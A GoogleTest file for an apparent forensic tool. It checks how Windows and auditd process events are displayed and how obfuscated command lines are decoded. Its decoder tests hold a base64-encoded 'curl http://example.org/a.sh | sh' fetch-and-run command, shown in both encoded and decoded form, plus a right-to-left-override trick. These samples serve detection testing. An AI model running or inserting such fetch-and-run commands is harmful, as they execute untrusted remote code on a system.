#include "app/gui/event_details.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cstdlib>

#include "events/fields.hpp"

namespace stemma {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::Not;

std::unique_ptr<Session> samples() { return Session::open({std::string(std::getenv("STEMMA_ROOT")) + "/samples/azure-run-command"}, {}); }

EventId first_with_code(const CaseSnapshot& snapshot, std::string_view code) {
  for (std::size_t i = 0; i < snapshot.events.size(); ++i) {
    const EventId id = EventId::from_index(i);
    if (snapshot.strings.view(snapshot.events.code(id)) == code) return id;
  }
  return {};
}

std::vector<std::string> decoded(std::string_view field, std::string_view value) {
  ui::FieldShown one;
  one.name = field;
  one.raw = {std::string(value)};
  std::vector<std::string> out;
  for (const ui::Decoded& text : decode_further({one})) out.push_back(text.how + ": " + text.text);
  return out;
}

TEST(EventDetails, AWindowsEventHasItsXmlAndItsBytes) {
  const auto session = samples();
  const EventId id = first_with_code(session->snapshot(), "4688");
  ASSERT_TRUE(id);
  const ui::EventDetails details = event_details(*session, id, Secrets::redacted);
  EXPECT_TRUE(details.read) << details.error;
  EXPECT_THAT(details.record, HasSubstr("<EventID>4688</EventID>"));
  EXPECT_THAT(details.record, HasSubstr("<Data Name=\"NewProcessName\">"));
  ASSERT_EQ(details.pieces.size(), 1u);
  EXPECT_EQ(details.pieces[0].bytes, session->original(id));
  EXPECT_EQ(details.pieces[0].bytes.substr(0, 2), "**");
  std::map<std::string, Origin> origins;
  for (const ui::FieldShown& field : details.fields) origins[field.name] = field.origin;
  EXPECT_EQ(origins.at("process.executable"), Origin::record);
  EXPECT_EQ(origins.at("process.args"), Origin::derived);
  EXPECT_EQ(origins.at("process.entity_id"), Origin::synthesised);
}

TEST(EventDetails, AnAuditEventHasItsLines) {
  const auto session = samples();
  const CaseSnapshot& snapshot = session->snapshot();
  EventId id;
  for (const ProcessStart& start : snapshot.tree.starts()) {
    if (snapshot.events.source_kind(start.event) == SourceKind::auditd) id = start.event;
  }
  ASSERT_TRUE(id);
  const ui::EventDetails details = event_details(*session, id, Secrets::redacted);
  EXPECT_THAT(details.record, HasSubstr("type=SYSCALL"));
  EXPECT_THAT(details.record, HasSubstr("type=EXECVE"));
}

TEST(EventDetails, EveryEventOfTheSamplesCanBeShown) {
  const auto session = samples();
  for (std::size_t i = 0; i < session->snapshot().events.size(); ++i) {
    const ui::EventDetails details = event_details(*session, EventId::from_index(i), Secrets::redacted);
    EXPECT_TRUE(details.read) << details.error;
    EXPECT_FALSE(details.fields.empty());
    for (const ui::FieldShown& field : details.fields) {
      for (const std::string& value : field.values) EXPECT_EQ(value.find('\x1b'), std::string::npos);
    }
  }
}

TEST(DecodeFurther, PowerShellsEncodedCommand) {
  EXPECT_THAT(decoded("process.command_line", "powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgAGgAZQBsAGwAbwA="), ElementsAre("base64, UTF-16LE: Write-Host hello"));
}

TEST(DecodeFurther, PlainTextInBase64) {
  EXPECT_THAT(decoded("process.command_line", "echo Y3VybCBodHRwOi8vZXhhbXBsZS5vcmcvYS5zaCB8IHNo | base64 -d"), ElementsAre("base64: curl http://example.org/a.sh | sh"));
}

TEST(DecodeFurther, WordsPathsAndHashesAreLeftAlone) {
  EXPECT_THAT(decoded("process.command_line", "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted"), ElementsAre());
  EXPECT_THAT(decoded("process.hash.sha256", "Y3VybCBodHRwOi8vZXhhbXBsZS5vcmcvYS5zaCB8IHNo"), ElementsAre());
}

TEST(DecodeFurther, WhatCannotBeSeenIsMadeVisible) {
  // "echo \u{202e}evil" with a right-to-left override.
  const std::vector<std::string> texts = decoded("process.command_line", "ZWNobyDigK5ldmlsIGV2aWwgZXZpbA==");
  ASSERT_EQ(texts.size(), 1u);
  EXPECT_THAT(texts[0], HasSubstr("\\u{202e}"));
  EXPECT_THAT(texts[0], Not(HasSubstr("\xe2\x80\xae")));
}

}  // namespace
}  // namespace stemma
